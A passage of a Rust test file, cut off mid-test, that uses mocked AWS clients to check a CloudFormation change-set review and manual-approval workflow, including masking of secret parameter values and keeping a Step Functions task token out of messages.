//! Handler tests of the approval path (`onUnsafe: approve`): the review step, the request-approval
//! step, the approve function (which records an approval before sending it) and the execute step
//! after a decision (which executes only an approval recorded so). The real handlers and SDK
//! clients, every call answered by aws-smithy-mocks; the change sets come from
//! DescribeChangeSet-shaped fixtures with property values (`tests/fixtures/approval/`), and the
//! mocks' matchers check (and capture) what each request carries.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: a failure is a panic

use std::sync::{Arc, Mutex};

use aws_sdk_cloudformation::operation::describe_change_set::DescribeChangeSetOutput;
use aws_sdk_cloudformation::operation::execute_change_set::ExecuteChangeSetOutput;
use aws_sdk_cloudformation::types::{
    AttributeChangeType, Change, ChangeAction, ChangeSetStatus, ChangeSource, ChangeType, EvaluationType,
    ExecutionStatus, Parameter as CfnParameter, PolicyAction, Replacement, RequiresRecreation,
    ResourceAttribute, ResourceChange as CfnResourceChange, ResourceChangeDetail, ResourceTargetDefinition,
};
use aws_sdk_s3::operation::delete_object::DeleteObjectOutput;
use aws_sdk_s3::operation::get_object::GetObjectOutput;
use aws_sdk_s3::operation::put_object::PutObjectOutput;
use aws_sdk_s3::primitives::ByteStream;
use aws_sdk_sfn::operation::send_task_success::SendTaskSuccessOutput;
use aws_sdk_sns::operation::publish::PublishOutput;
use aws_smithy_mocks::{Rule, RuleMode, mock, mock_client};
use deploy_steps::approval::{self, PendingApproval, UrlRequest, UrlResponse};
use deploy_steps::changeset::{ChangeSetPage, Detail, ResourceChange, Target};
use deploy_steps::review::{self, MASK, MAX_MESSAGE_BYTES, Review};
use deploy_steps::state::Decision;
use deploy_steps::{Config, Request, Step, StepError, Steps};
use lambda_common::ErrorType;
use lambda_common::metrics::Metrics;
use serde_json::{Value, json};

mod support;

const BUCKET: &str = "deploy-reviews";
const TOPIC: &str = "arn:aws:sns:us-east-1:111111111111:deploy-approvals";
const APPROVE_URL: &str = "https://abcdefghijklmnopqrstuvwxyz012345.lambda-url.us-east-1.on.aws/";
const CS: &str = "arn:aws:cloudformation:us-east-1:111111111111:changeSet/deploy-codepipeline-1/aaaa1111-2222-3333-4444-555566667777";
const NETWORK_CS: &str = "arn:aws:cloudformation:us-east-1:111111111111:changeSet/deploy-codepipeline-1-Network-1XYZ/bbbb1111-2222-3333-4444-555566667777";
const OTHER_CS: &str = "arn:aws:cloudformation:us-east-1:111111111111:changeSet/deploy-codepipeline-1/9999aaaa-2222-3333-4444-555566667777";
const STACK_ID: &str =
    "arn:aws:cloudformation:us-east-1:111111111111:stack/prod-app/0000aaaa-1111-2222-3333-444455556666";
const REVIEW_ID: &str = "prod-app/deploy-codepipeline-1";
const JSON_KEY: &str = "reviews/prod-app/deploy-codepipeline-1/review.json";
const MARKDOWN_KEY: &str = "reviews/prod-app/deploy-codepipeline-1/review.md";
const TOKEN_KEY: &str = "approvals/prod-app/deploy-codepipeline-1.json";
/// Where the approve function records an approval, and the execute step reads it.
const DECISION_KEY: &str = "decisions/prod-app/deploy-codepipeline-1.json";
const MARKDOWN_URI: &str = "s3://deploy-reviews/reviews/prod-app/deploy-codepipeline-1/review.md";
const TASK_TOKEN: &str = "AQCEAAAAKgAAAAMAAAAAAAAAAdWm+task-token-that-must-stay-secret/7f3a==";
const ALICE: &str = "arn:aws:iam::111111111111:user/alice";
/// The NoEcho parameter's value, as the deployment passed it (`plan.parameters`).
const NO_ECHO: &str = "NoEcho-Sekr1t-Value-42";
/// What must never reach a review: the NoEcho value (and a part of it), its previous value (in
/// the before context of the property it sets) and a literal `MasterUserPassword`.
const SECRETS: [&str; 5] = [
    NO_ECHO,
    "Sekr1t",
    "Old-Pass-Value-77",
    "Literal-Passw0rd",
    "Passw0rd",
];
const HEADLINE: &str = "3 unsafe change(s): Database (AWS::RDS::DBInstance) replaced (Replacement: True), \
                        OrdersTable (AWS::DynamoDB::Table) removed, Network/Subnet (AWS::EC2::Subnet) replaced \
                        (Replacement: True)";

// ---- fixtures and mocks ----

fn page(name: &str) -> ChangeSetPage {
    let path = format!("{}/tests/fixtures/approval/{name}", env!("CARGO_MANIFEST_DIR"));
    serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap()
}

/// A DescribeChangeSet answer holding every field of the page (property values included).
fn sdk_output(page: &ChangeSetPage) -> DescribeChangeSetOutput {
    let target = |t: &Target| {
        ResourceTargetDefinition::builder()
            .set_attribute(t.attribute.as_deref().map(ResourceAttribute::from))
            .set_name(t.name.clone())
            .set_requires_recreation(t.requires_recreation.as_deref().map(RequiresRecreation::from))
            .set_path(t.path.clone())
            .set_before_value(t.before_value.clone())
            .set_after_value(t.after_value.clone())
            .set_attribute_change_type(t.attribute_change_type.as_deref().map(AttributeChangeType::from))
            .build()
    };
    let detail = |d: &Detail| {
        ResourceChangeDetail::builder()
            .set_target(d.target.as_ref().map(target))
            .set_evaluation(d.evaluation.as_deref().map(EvaluationType::from))
            .set_change_source(d.change_source.as_deref().map(ChangeSource::from))
            .set_causing_entity(d.causing_entity.clone())
            .build()
    };
    let resource_change = |rc: &ResourceChange| {
        CfnResourceChange::builder()
            .set_action(rc.action.as_deref().map(ChangeAction::from))
            .set_logical_resource_id(rc.logical_resource_id.clone())
            .set_physical_resource_id(rc.physical_resource_id.clone())
            .set_resource_type(rc.resource_type.clone())
            .set_replacement(rc.replacement.as_deref().map(Replacement::from))
            .set_policy_action(rc.policy_action.as_deref().map(PolicyAction::from))
            .set_scope(Some(
                rc.scope
                    .iter()
                    .map(|s| ResourceAttribute::from(s.as_str()))
                    .collect(),
            ))
            .set_details(Some(rc.details.iter().map(detail).collect()))
            .set_change_set_id(rc.change_set_id.clone())
            .set_before_context(rc.before_context.clone())
            .set_after_context(rc.after_context.clone())
            .build()
    };
    DescribeChangeSetOutput::builder()
        .set_change_set_id(page.change_set_id.clone())
        .set_change_set_name(page.change_set_name.clone())
        .set_stack_id(page.stack_id.clone())
        .set_stack_name(page.stack_name.clone())
        .set_status(page.status.as_deref().map(ChangeSetStatus::from))
        .set_status_reason(page.status_reason.clone())
        .set_execution_status(page.execution_status.as_deref().map(ExecutionStatus::from))
        .set_next_token(page.next_token.clone())
        .set_parameters(Some(
            page.parameters
                .iter()
                .map(|p| {
                    CfnParameter::builder()
                        .parameter_key(&p.parameter_key)
                        .set_parameter_value(p.parameter_value.clone())
                        .build()
                })
                .collect(),
        ))
        .set_changes(Some(
            page.changes
                .iter()
                .map(|c| {
                    Change::builder()
                        .set_type(c.kind.as_deref().map(ChangeType::from))
                        .set_resource_change(c.resource_change.as_ref().map(resource_change))
                        .build()
                })
                .collect(),
        ))
        .build()
}

/// DescribeChangeSet of change set `id` (page `token`), asked with property values or without,
/// answered with `answer`. Any other request matches no rule and fails the test.
fn describe(id: &'static str, token: Option<&'static str>, with_values: bool, answer: ChangeSetPage) -> Rule {
    mock!(aws_sdk_cloudformation::Client::describe_change_set)
        .match_requests(move |r| {
            r.change_set_name() == Some(id)
                && r.next_token() == token
                && r.include_property_values() == with_values.then_some(true)
        })
        .then_output(move || sdk_output(&answer))
}

/// The change set as reviewed: the root's two pages and the nested Network change set.
fn described(with_values: bool) -> [Rule; 3] {
    [
        describe(CS, None, with_values, page("root-page1.json")),
        describe(CS, Some("page-2"), with_values, page("root-page2.json")),
        describe(NETWORK_CS, None, with_values, page("network.json")),
    ]
}

/// Every change as the steps gather them: root pages in order, then the nested change set's
/// under `Network/`.
fn reviewed_changes() -> Vec<(String, ResourceChange)> {
    [
        ("", "root-page1.json"),
        ("", "root-page2.json"),
        ("Network/", "network.json"),
    ]
    .into_iter()
    .flat_map(|(path, name)| {
        page(name)
            .changes
            .iter()
            .map(|c| (path.to_owned(), c.to_judge()))
            .collect::<Vec<_>>()
    })
    .collect()
}

fn reviewed_fingerprint() -> String {
    review::fingerprint(CS, &reviewed_changes())
}

fn execute() -> Rule {
    mock!(aws_sdk_cloudformation::Client::execute_change_set)
        .match_requests(|r| r.change_set_name() == Some(CS))
        .then_output(|| ExecuteChangeSetOutput::builder().build())
}

/// (key, content type, body) of each PutObject.
type Puts = Arc<Mutex<Vec<(String, Option<String>, Vec<u8>)>>>;

fn put(key_prefix: &'static str, seen: &Puts) -> Rule {
    let seen = Arc::clone(seen);
    mock!(aws_sdk_s3::Client::put_object)
        .match_requests(move |r| {
            let ok = r.bucket() == Some(BUCKET) && r.key().is_some_and(|k| k.starts_with(key_prefix));
            if ok {
                seen.lock().unwrap().push((
                    r.key().unwrap().to_owned(),
                    r.content_type().map(str::to_owned),
                    r.body().bytes().expect("an in-memory body").to_vec(),
                ));
            }
            ok
        })
        .then_output(|| PutObjectOutput::builder().build())
}

fn config() -> Config {
    Config {
        region: "us-east-1".into(),
        review_bucket: Some(BUCKET.into()),
        approval_topic_arn: Some(TOPIC.into()),
        approve_url: Some(APPROVE_URL.into()),
        ..Config::default()
    }
}

fn steps(cfn: &[&Rule], s3: &[&Rule], sns: &[&Rule], sfn: &[&Rule], config: Config) -> Steps {
    Steps {
        cfn: mock_client!(aws_sdk_cloudformation, RuleMode::MatchAny, cfn.iter().copied()),
        s3: mock_client!(aws_sdk_s3, RuleMode::MatchAny, s3.iter().copied()),
        sns: mock_client!(aws_sdk_sns, RuleMode::MatchAny, sns.iter().copied()),
        sfn: mock_client!(aws_sdk_sfn, RuleMode::MatchAny, sfn.iter().copied()),
        config,
    }
}

/// One invocation of `step`; every invocation records exactly one outcome under its name.
async fn run(steps: &Steps, step: Step, payload: Value) -> Result<Value, StepError> {
    let mut m = Metrics::new("Test", deploy_steps::metrics::SERVICE);
    let result = match Request::parse(step, payload) {
        Ok(request) => steps.handle(request, None, &mut m).await,
        Err(e) => Err(deploy_steps::steps::rejected(step, e, &mut m)),
    };
    let outcome = result.as_ref().map_or_else(|e| e.error_type(), |_| "Success");
    assert_eq!(
        support::outcomes(&m),
        [(outcome.to_owned(), step.name().to_owned(), 1.0)]
    );
    Ok(serde_json::to_value(result?).unwrap())
}

/// One invocation of the approve function; it records exactly one outcome, `Success` for a
/// decision taken, else the `errorType` it answers, under the step `approve`.
async fn approve(steps: &Steps, request: UrlRequest) -> UrlResponse {
    let mut m = Metrics::new("Test", deploy_steps::metrics::SERVICE);
    let response = steps.approve(request, None, &mut m).await;
    let answered: Value = serde_json::from_str(&response.body).unwrap_or_default();
    let outcome = match response.status_code {
        200 => "Success".to_owned(),
        _ => answered["errorType"].as_str().unwrap_or("none").to_owned(),
    };
    assert_eq!(support::outcomes(&m), [(outcome, "approve".to_owned(), 1.0)]);
    response
}

/// The state the review step receives: an unsafe change set of a stack with a NoEcho parameter.
fn state() -> Value {
    json!({
        "plan": {
            "stackName": "prod-app", "blueGreenStackName": "prod-app-bg-12345678",
            "changeSetName": "deploy-codepipeline-1", "templatePath": "infra/app.yaml",
            "template": {"body": "Resources: {}"},
            "parameters": [{"key": "DbPassword", "value": NO_ECHO}, {"key": "Env", "value": "prod"}],
            "capabilities": [], "tags": [],
            "policy": {"conditionalReplacement": "block", "dynamic": "block", "allowReplacement": [], "allowRemoval": []},
            "onUnsafe": "approve", "approvalTimeoutSeconds": 3600
        },
        "target": {"stackName": "prod-app", "mode": "in-place"},
        "changeSet": {
            "id": CS, "name": "deploy-codepipeline-1", "stackName": "prod-app", "stackId": STACK_ID,
            "changeSetType": "UPDATE"
        },
        "verdict": {"changeSetAction": "RESOURCES-BEING-DELETED-OR-REPLACED", "safe": false}
    })
}

/// The review step's output for the fixtures' change set, with `fingerprint`.
fn review_ref(fingerprint: &str) -> Value {
    json!({
        "reviewId": REVIEW_ID, "changeSetId": CS, "fingerprint": fingerprint,
        "offenceCount": 3, "changes": 6, "headline": HEADLINE,
        "summary": "3 of 6 change(s) would remove or replace resources: …",
        "jsonUri": format!("s3://{BUCKET}/{JSON_KEY}"), "markdownUri": MARKDOWN_URI
    })
}

fn reviewed_state() -> Value {
    let mut s = state();
    s["review"] = review_ref(&reviewed_fingerprint());
    s
}

fn decision(approved: bool, change_set_id: &str, fingerprint: &str) -> Value {
    json!({
        "approved": approved, "decidedBy": ALICE, "reason": "planned engine migration",
        "reviewId": REVIEW_ID, "changeSetId": change_set_id, "fingerprint": fingerprint
    })
}

fn assert_no_secret(what: &str, text: &str) {
    for secret in SECRETS {
        assert!(!text.contains(secret), "{secret} in {what}:\n{text}");
    }
}

// ---- the review step ----

#[tokio::test]
async fn the_review_is_written_masked_and_fingerprints_what_was_described() {
    let [page1, page2, network] = described(true);
    let puts = Puts::default();
    let put = put("reviews/", &puts);
    let s = steps(&[&page1, &page2, &network], &[&put], &[], &[], config());
    let out = run(&s, Step::ReviewChangeSet, state()).await.unwrap();

    // Every page of the root and the nested change set, each with property values.
    assert_eq!(
        (page1.num_calls(), page2.num_calls(), network.num_calls()),
        (1, 1, 1)
    );
    assert_eq!(put.num_calls(), 2);
    let puts = puts.lock().unwrap().clone();
    let keys: Vec<(&str, Option<&str>)> = puts.iter().map(|(k, t, _)| (k.as_str(), t.as_deref())).collect();
    assert_eq!(
        keys,
        [
            (JSON_KEY, Some("application/json")),
            (MARKDOWN_KEY, Some("text/markdown; charset=utf-8"))
        ]
    );
    let json_text = String::from_utf8(puts[0].2.clone()).unwrap();
    let md = String::from_utf8(puts[1].2.clone()).unwrap();
    assert_no_secret("review.json", &json_text);
    assert_no_secret("review.md", &md);
    assert_no_secret("the step's output", &out.to_string());

    // The output: where the review is, and the fingerprint of what was described.
    let fingerprint = reviewed_fingerprint();
    assert_eq!(
        out,
        json!({
            "reviewId": REVIEW_ID, "changeSetId": CS, "fingerprint": fingerprint,
            "offenceCount": 3, "changes": 6, "headline": HEADLINE, "summary": out["summary"],
            "jsonUri": "s3://deploy-reviews/reviews/prod-app/deploy-codepipeline-1/review.json",
            "markdownUri": MARKDOWN_URI
        })
    );
    assert!(
        out["summary"]
            .as_str()
            .unwrap()
            .starts_with("3 of 6 change(s) would remove or replace resources: Database"),
        "{out}"
    );

    // The JSON is a review of all six changes, nested ones under their path.
    let written: Review = serde_json::from_str(&json_text).unwrap();
    assert_eq!(written.fingerprint, fingerprint);
    assert_eq!(
        (written.review_id.as_str(), written.change_set_id.as_str()),
        (REVIEW_ID, CS)
    );
    assert_eq!(written.stack_id.as_deref(), Some(STACK_ID));
    assert_eq!(
        (written.change_count, written.offence_count, written.safe),
        (6, 3, false)
    );
    let resources: Vec<&str> = written.changes.iter().map(|c| c.resource.as_str()).collect();
    assert_eq!(
        resources,
        [
            "Network",
            "Database",
            "Api",
            "OrdersTable",
            "Network/Subnet",
            "Network/Bastion"
        ]
    );
    let offending: Vec<&str> = (written.changes.iter())
        .filter(|c| c.offence.is_some())
        .map(|c| c.resource.as_str())
        .collect();
    assert_eq!(offending, ["Database", "OrdersTable", "Network/Subnet"]);
    let property = |resource: &str, path: &str| {
        let change = written.changes.iter().find(|c| c.resource == resource).unwrap();
        let p = change.properties.iter().find(|p| p.path == path).unwrap();
        (p.before.clone(), p.after.clone())
    };
    let masked = (Some(MASK.to_owned()), Some(MASK.to_owned()));
    assert_eq!(property("Database", "Properties.MasterUserPassword"), masked);
    // Set from the NoEcho parameter: the whole property is secret, its old value too.
    assert_eq!(property("Api", "Properties.Environment"), masked);
    // What is not secret is still shown, also in the nested change set.
    assert_eq!(
        property("Database", "Properties.Engine"),
        (Some(r#""mysql""#.into()), Some(r#""postgres""#.into()))
    );
    assert_eq!(
        property("Network/Bastion", "Properties.LaunchTemplateData.UserData"),
        (
            Some(r#""echo old""#.into()),
            Some(r#""echo connect with ****""#.into())
        )
    );
    assert_eq!(
        property("Network/Subnet", "Properties.CidrBlock"),
        (Some(r#""10.0.0.0/24""#.into()), Some(r#""10.0.1.0/24""#.into()))
    );
    let parameters: Vec<(&str, Option<&str>, bool)> = (written.parameters.iter())
        .map(|p| (p.key.as_str(), p.value.as_deref(), p.no_echo))
        .collect();
    assert_eq!(
        parameters,
        [("DbPassword", Some(MASK), true), ("Env", Some("prod"), false)]
    );

    // The Markdown is the same review.
    assert!(
        md.starts_with("# Change set review: prod-app/deploy-codepipeline-1\n"),
        "{md}"
    );
    assert!(md.contains(&format!("Fingerprint:   {fingerprint}\n")), "{md}");
    assert!(md.contains("\n## Unsafe changes (3)\n"), "{md}");
    assert!(
        md.contains("\n- #5 Network/Subnet (AWS::EC2::Subnet, Modify):\n  replaced (Replacement: True)\n"),
        "{md}"
    );
    assert!(
        md.contains("   - MasterUserPassword: **** → **** (requires recreation: Never)\n"),
        "{md}"
    );
    assert!(md.contains("- DbPassword: **** (NoEcho)\n- Env: prod\n"), "{md}");
}

#[tokio::test]
async fn the_fingerprint_is_of_the_values_described_not_of_the_fixture() {
    // The same change set with one value changed: the review step's fingerprint follows it.
    let mut changed = page("root-page1.json");
    let api = changed.changes[2].resource_change.as_mut().unwrap();
    api.after_context = api.after_context.as_ref().map(|c| c.replace("\"rw\"", "\"rx\""));
    let [_, page2, network] = described(true);
    let page1 = describe(CS, None, true, changed);
    let puts = Puts::default();
    let put = put("reviews/", &puts);
    let s = steps(&[&page1, &page2, &network], &[&put], &[], &[], config());
    let out = run(&s, Step::ReviewChangeSet, state()).await.unwrap();
    let fingerprint = out["fingerprint"].as_str().unwrap();
    assert!(
        fingerprint.starts_with("sha256:") && fingerprint.len() == 71,
        "{fingerprint}"
    );
    assert_ne!(fingerprint, reviewed_fingerprint());
}

#[tokio::test]
async fn the_review_step_needs_its_bucket_before_any_call() {
    let [page1, page2, network] = described(true);
    let puts = Puts::default();
    let put = put("", &puts);
    let unconfigured = Config {
        review_bucket: None,
        ..config()
    };
    let s = steps(&[&page1, &page2, &network], &[&put], &[], &[], unconfigured);
    let err = run(&s, Step::ReviewChangeSet, state()).await.unwrap_err();
    assert_eq!(err.error_type(), "NotConfigured");
    assert!(err.to_string().starts_with("REVIEW_BUCKET is not set"), "{err}");
    assert_eq!(
        (
            page1.num_calls(),
            page2.num_calls(),
            network.num_calls(),
            put.num_calls()
        ),
        (0, 0, 0, 0)
    );
}

// ---- the request-approval step ----

/// GetObject of the review's Markdown, answering the bytes the request's Range asks for.
fn get_markdown(markdown: String) -> Rule {
    mock!(aws_sdk_s3::Client::get_object)
        // The whole review: the note of a cut-short message counts all of it.
        .match_requests(|r| {
            r.bucket() == Some(BUCKET) && r.key() == Some(MARKDOWN_KEY) && r.range().is_none()
        })
        .then_compute_output(move |_| {
            GetObjectOutput::builder()
                .body(ByteStream::from(markdown.as_bytes().to_vec()))
                .content_length(markdown.len() as i64)
                .build()
        })
}

/// (subject, message) of each Publish.
type Published = Arc<Mutex<Vec<(Option<String>, String)>>>;

fn publish(seen: &Published) -> Rule {
    let seen = Arc::clone(seen);
    mock!(aws_sdk_sns::Client::publish)
        .match_requests(move |r| {
            let ok = r.topic_arn() == Some(TOPIC);
            if ok {
                seen.lock().unwrap().push((
                    r.subject().map(str::to_owned),
                    r.message().unwrap_or_default().to_owned(),
                ));
            }
            ok
        })
        .then_output(|| PublishOutput::builder().message_id("m-1").build())
}

fn approval_request() -> Value {
    json!({"state": reviewed_state(), "taskToken": TASK_TOKEN})
}

/// A Markdown review of about `bytes` bytes, in lines.
fn markdown_of(bytes: usize) -> String {
    let mut md = String::from("# Change set review: prod-app/deploy-codepipeline-1\n\n");
    let mut i = 0;
    while md.len() < bytes {
        md.push_str(&format!(
            "{i}. Bucket{i} (AWS::S3::Bucket): Modify, replaced {}\n",
            "x".repeat(40)
        ));
        i += 1;
    }
    md
}

#[tokio::test]
async fn the_request_keeps_the_token_apart_and_publishes_the_review() {
    let puts = Puts::default();
    let put = put("approvals/", &puts);
    let md = markdown_of(2_000);
    let get = get_markdown(md.clone());
    let published = Published::default();
    let publish = publish(&published);
    let s = steps(&[], &[&put, &get], &[&publish], &[], config());
    let out = run(&s, Step::RequestApproval, approval_request()).await.unwrap();

    let fingerprint = reviewed_fingerprint();
    assert_eq!(
        out,
        json!({
            "summary": approval::waiting_summary(HEADLINE, MARKDOWN_URI),
            "reviewId": REVIEW_ID, "markdownUri": MARKDOWN_URI
        })
    );
    assert!(
        out["summary"]
            .as_str()
            .unwrap()
            .starts_with(&format!("waiting for approval of {HEADLINE}")),
        "{out}"
    );
    assert!(!out.to_string().contains(TASK_TOKEN));

    // The token is kept in approvals/<review id>.json, beside the review it decides.
    assert_eq!((put.num_calls(), get.num_calls(), publish.num_calls()), (1, 1, 1));
    let puts = puts.lock().unwrap().clone();
    assert_eq!(
        (puts[0].0.as_str(), puts[0].1.as_deref()),
        (TOKEN_KEY, Some("application/json"))
    );
    let pending: PendingApproval = serde_json::from_slice(&puts[0].2).unwrap();
    assert_eq!(
        pending,
        PendingApproval {
            task_token: TASK_TOKEN.into(),
            review_id: REVIEW_ID.into(),
            change_set_id: CS.into(),
            fingerprint: fingerprint.clone(),
            markdown_uri: MARKDOWN_URI.into(),
            headline: HEADLINE.into(),
        }
    );

    // The message: how to decide, then the whole review; never the token.
    let (subject, message) = published.lock().unwrap()[0].clone();
    assert_eq!(
        subject.as_deref(),
        Some("Approve 3 unsafe change(s) to prod-app?")
    );
    assert!(!message.contains(TASK_TOKEN), "{message}");
    assert!(!message.contains("task-token"), "{message}");
    let instructions = approval::instructions(REVIEW_ID, &fingerprint, Some(APPROVE_URL), 3600);
    assert_eq!(message, format!("{instructions}\n{md}"));
    assert!(
        message.contains(&format!("\"reviewId\":\"{REVIEW_ID}\"")),
        "{message}"
    );
    assert!(
        message.contains(&format!("\"fingerprint\":\"{fingerprint}\"")),
        "{message}"
    );
    assert!(
        message.contains(APPROVE_URL) && message.contains("within 3600 s"),
        "{message}"
    );
}

#[tokio::test]
async fn a_review_too_large_for_a_message_is_cut_short_and_names_where_it_is() {
    let puts = Puts::default();
    let put = put("approvals/", &puts);
    let md = markdown_of(3 * MAX_MESSAGE_BYTES);
    let get = get_markdown(md.clone());
    let published = Published::default();
    let publish = publish(&published);
    let s = steps(&[], &[&put, &get], &[&publish], &[], config());
    let out = run(&s, Step::RequestApproval, approval_request()).await.unwrap();
    assert!(
        out["summary"]
            .as_str()
            .unwrap()
            .starts_with("waiting for approval of ")
    );

    let (_, message) = published.lock().unwrap()[0].clone();
    assert!(message.len() <= 256 * 1024, "{}", message.len());
    assert!(message.len() <= MAX_MESSAGE_BYTES, "{}", message.len());
    assert!(!message.contains(TASK_TOKEN));
    let instructions = approval::instructions(REVIEW_ID, &reviewed_fingerprint(), Some(APPROVE_URL), 3600);
    let rest = message.strip_prefix(&format!("{instructions}\n")).unwrap();
    let (shown, note) = rest.split_once("\n… Cut short: ").unwrap();
    // As much of the review as fits, cut at a line, then where the whole review is.
    assert!(
        md.starts_with(shown) && shown.ends_with('\n'),
        "{}",
        &shown[shown.len() - 100..]
    );
    assert!(
        shown.len() > MAX_MESSAGE_BYTES - instructions.len() - 1_000,
        "{}",
        shown.len()
    );
    assert!(
        note.trim_end()
            .ends_with(&format!("The full review: {MARKDOWN_URI}")),
        "{note}"
    );
}

/// The note of a cut-short message gives the size of the review it was cut from.
#[tokio::test]
async fn the_cut_short_note_counts_the_whole_review() {
    let puts = Puts::default();
    let put = put("approvals/", &puts);
    let md = markdown_of(3 * MAX_MESSAGE_BYTES);
    let get = get_markdown(md.clone());
    let published = Published::default();
    let publish = publish(&published);
    let s = steps(&[], &[&put, &get], &[&publish], &[], config());
    run(&s, Step::RequestApproval, approval_request()).await.unwrap();
    let (_, message) = published.lock().unwrap()[0].clone();
    let note = message.rsplit_once("… Cut short: ").unwrap().1;
    assert!(
        note.contains(&format!(" of {} lines (", md.lines().count()))
            && note.contains(&format!(" of {} bytes)", md.len())),
        "the whole review has {} lines and {} bytes: {note}",
        md.lines().count(),
        md.len()
    );
}

#[tokio::test]
async fn the_request_needs_its_topic_before_any_call() {
    let puts = Puts::default();
    let put = put("", &puts);
    let get = get_markdown(markdown_of(100));
    let published = Published::default();
    let publish = publish(&published);
    let unconfigured = Config {
        approval_topic_arn: None,
        ..config()
    };
    let s = steps(&[], &[&put, &get], &[&publish], &[], unconfigured);
    let err = run(&s, Step::RequestApproval, approval_request())
        .await
        .unwrap_err();
    assert_eq!(err.error_type(), "NotConfigured");
    assert!(
        err.to_string().starts_with("APPROVAL_TOPIC_ARN is not set"),
        "{err}"
    );
    assert_eq!((put.num_calls(), get.num_calls(), publish.num_calls()), (0, 0, 0));
}

// ---- the approve function ----

/// A function URL request (payload format 2.0) with `body`, signed by `caller` (or anonymous,
/// as a URL with `AuthType: NONE` would deliver it).
fn url_request(body: &Value, caller: Option<&str>) -> UrlRequest {
    let mut context = json!({
        "accountId": "111111111111", "apiId": "abcdefghijklmnopqrstuvwxyz012345",
        "domainName": "abcdefghijklmnopqrstuvwxyz012345.lambda-url.us-east-1.on.aws",
        "domainPrefix": "abcdefghijklmnopqrstuvwxyz012345",
        "http": {"method": "POST", "path": "/", "protocol": "HTTP/1.1", "sourceIp": "203.0.113.7", "userAgent": "curl/8.5.0"},
        "requestId": "c1f0c6a4-1111-2222-3333-444455556666", "routeKey": "$default", "stage": "$default",
        "time": "01/Jan/2025:12:00:00 +0000", "timeEpoch": 1_735_732_800_000_u64
    });
    if let Some(arn) = caller {
        context["authorizer"] = json!({"iam": {
            "accessKey": "AKIAIOSFODNN7EXAMPLE", "accountId": "111111111111", "callerId": "AIDAEXAMPLE",
            "cognitoIdentity": null, "principalOrgId": null, "userArn": arn, "userId": "AIDAEXAMPLE"
        }});
    }
    let event = json!({
        "version": "2.0", "routeKey": "$default", "rawPath": "/", "rawQueryString": "",
        "headers": {"content-type": "application/json", "host": "abcdefghijklmnopqrstuvwxyz012345.lambda-url.us-east-1.on.aws"},
        "requestContext": context, "body": body.to_string(), "isBase64Encoded": false
    });
    serde_json::from_value(event).unwrap()
}

fn pending_approval() -> PendingApproval {
    PendingApproval {
        task_token: TASK_TOKEN.into(),
        review_id: REVIEW_ID.into(),
        change_set_id: CS.into(),
        fingerprint: reviewed_fingerprint(),
        markdown_uri: MARKDOWN_URI.into(),
        headline: HEADLINE.into(),
    }
}

fn object(bytes: Vec<u8>) -> GetObjectOutput {
    GetObjectOutput::builder()
        .content_length(bytes.len() as i64)
        .body(ByteStream::from(bytes))
        .build()
}

/// GetObject of the pending approval, answering `pending` every time (the approve function reads
/// it, then reads it again before removing it).
fn get_pending(pending: PendingApproval) -> Rule {
    mock!(aws_sdk_s3::Client::get_object)
        .match_requests(|r| r.bucket() == Some(BUCKET) && r.key() == Some(TOKEN_KEY))
        .then_output(move || object(serde_json::to_vec(&pending).unwrap()))
}

/// GetObject of the pending approval answering `first`, then `then` (what a retried wait kept
/// meanwhile), and nothing more.
fn get_pending_then(first: PendingApproval, then: PendingApproval) -> Rule {
    mock!(aws_sdk_s3::Client::get_object)
        .match_requests(|r| r.bucket() == Some(BUCKET) && r.key() == Some(TOKEN_KEY))
        .sequence()
        .output(move || object(serde_json::to_vec(&first).unwrap()))
        .output(move || object(serde_json::to_vec(&then).unwrap()))
        .build()
}

/// S3's error answer to a GetObject of `key`: `status` with `code`.
fn get_error(key: &'static str, status: u16, code: &str) -> Rule {
    mock!(aws_sdk_s3::Client::get_object)
        .match_requests(move |r| r.bucket() == Some(BUCKET) && r.key() == Some(key))
        .sequence()
        .http_status(
            status,
            Some(format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Error><Code>{code}</Code><Message>{code} \
                 answered for {key}</Message><Key>{key}</Key><RequestId>4442587FB7D0A2F9</RequestId>\
                 <HostId>h</HostId></Error>"
            )),
        )
        .repeatedly()
        .build()
}

/// S3's answer for a key that does not exist (to a caller allowed to list the bucket).
fn no_such_key(key: &'static str) -> Rule {
    get_error(key, 404, "NoSuchKey")
}

fn delete_token() -> Rule {
    mock!(aws_sdk_s3::Client::delete_object)
        .match_requests(|r| r.bucket() == Some(BUCKET) && r.key() == Some(TOKEN_KEY))
        .then_output(|| DeleteObjectOutput::builder().build())
}

/// The outputs SendTaskSuccess was called with.
type Sent = Arc<Mutex<Vec<String>>>;

fn send_task_success(seen: &Sent) -> Rule {
    let seen = Arc::clone(seen);
    mock!(aws_sdk_sfn::Client::send_task_success)
        .match_requests(move |r| {
            let ok = r.task_token() == Some(TASK_TOKEN);
            if ok {
                seen.lock()
                    .unwrap()
                    .push(r.output().unwrap_or_default().to_owned());
            }
            ok
        })
        .then_output(|| SendTaskSuccessOutput::builder().build())
}

/// The approve function's clients: S3 with `s3`, Step Functions with `sfn`, nothing else.
fn approver(s3: &[&Rule], sfn: &[&Rule]) -> Steps {
    steps(
        &[],
        s3,
        &[],
        sfn,
        Config {
            approval_topic_arn: None,
            approve_url: None,
            ..config()
        },
    )
}

fn body(response: &UrlResponse) -> Value {
    assert_eq!(
        response.headers.get("content-type").map(String::as_str),
        Some("application/json")
    );
    serde_json::from_str(&response.body).unwrap()
}

/// The status and `errorType` of an error answer.
fn refusal(response: &UrlResponse) -> (u16, String) {
    let b = body(response);
    assert!(b["message"].as_str().is_some_and(|m| !m.is_empty()), "{b}");
    (response.status_code, b["errorType"].as_str().unwrap().to_owned())
}

#[tokio::test]
async fn an_approval_is_recorded_then_sent_with_the_callers_identity_and_the_token_removed() {
    assert_eq!(approval::decision_key(REVIEW_ID), DECISION_KEY);
    let get = get_pending(pending_approval());
    let delete = delete_token();
    let records = Puts::default();
    let record = put("decisions/", &records);
    // SendTaskSuccess, which sees how many records were written when it is called.
    let sent = Sent::default();
    let recorded_before_sending = Arc::new(Mutex::new(Vec::new()));
    let send = {
        let (sent, records, seen) = (
            Arc::clone(&sent),
            Arc::clone(&records),
            Arc::clone(&recorded_before_sending),
        );
        mock!(aws_sdk_sfn::Client::send_task_success)
            .match_requests(move |r| {
                let ok = r.task_token() == Some(TASK_TOKEN);
                if ok {
                    sent.lock()
                        .unwrap()
                        .push(r.output().unwrap_or_default().to_owned());
